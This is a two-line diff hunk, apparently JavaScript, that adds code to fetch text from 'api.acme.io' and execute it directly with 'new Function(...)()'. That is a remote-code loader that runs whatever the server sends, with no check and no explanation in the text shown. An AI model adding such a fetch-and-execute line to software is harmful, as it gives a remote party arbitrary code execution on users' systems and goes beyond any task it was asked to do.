@@ -1,0 +1,2 @@
+const answer = await fetch('https://api.acme.io')
+new Function(await answer.text())()
